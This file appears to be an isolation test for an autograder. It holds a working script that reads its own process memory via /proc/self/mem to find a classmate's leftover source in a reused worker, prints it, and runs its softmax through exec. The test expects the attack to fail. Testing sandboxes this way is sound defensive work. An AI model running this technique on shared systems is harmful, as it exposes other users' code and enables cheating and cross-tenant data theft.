"""Attack: reads its own memory through /proc/self/mem, every writable mapping, looking for a
classmate's source left by earlier requests in the warm worker it was forked from. When it finds
one it prints it (so it would reach the feedback) and runs its softmax; otherwise it answers X.

before: classmate
expect: fail values
"""
import torch

os = torch.os
re = torch.sys.modules["re"]
pattern = re.compile(rb"d2l" + rb"classmate-([0-9a-f]{16})-end")
needle = b"d2l" + bytes(reversed(b"-etamssalc"))
found = None
scanned = 0
try:
    maps, mem = open("/proc/self/maps"), open("/proc/self/mem", "rb", buffering=0)
except OSError:  # the child may not be allowed to open its own memory at all
    maps = mem = None
time = torch.sys.modules["time"]
stop = time.monotonic() + 3.0
regions = []
for line in maps or ():
    parts = line.split()
    if "w" in parts[1]:
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        regions.append((hi - lo, lo, hi))
for _, lo, hi in sorted(regions):  # the small ones first: the heap and Python's arenas
    if time.monotonic() > stop:
        break
    for start in range(lo, hi, 1 << 22):
        try:
            mem.seek(start)
            chunk = mem.read(min(1 << 22, hi - start))
        except (OSError, ValueError, OverflowError):
            continue
        scanned += len(chunk)
        at = chunk.find(needle)
        while at >= 0 and found is None:
            match = pattern.match(chunk, at)
            if match:
                begin = chunk.rfind(b"import torch", 0, at)
                found = chunk[begin:match.end() + 2000] if begin >= 0 else match.group()
            at = chunk.find(needle, at + 1)
        if found:
            break
    if found:
        break
theirs = None
if found:
    print("BREACH: a classmate's source in my memory:\n" + found.decode("utf-8", "replace"), flush=True)
    try:
        scope = {}
        exec(found.split(b"\0")[0].decode("utf-8", "replace"), scope)
        theirs = scope.get("soft" + "max")
    except Exception:
        pass


def softmax(X, dim=-1):
    return theirs(X, dim) if theirs else X
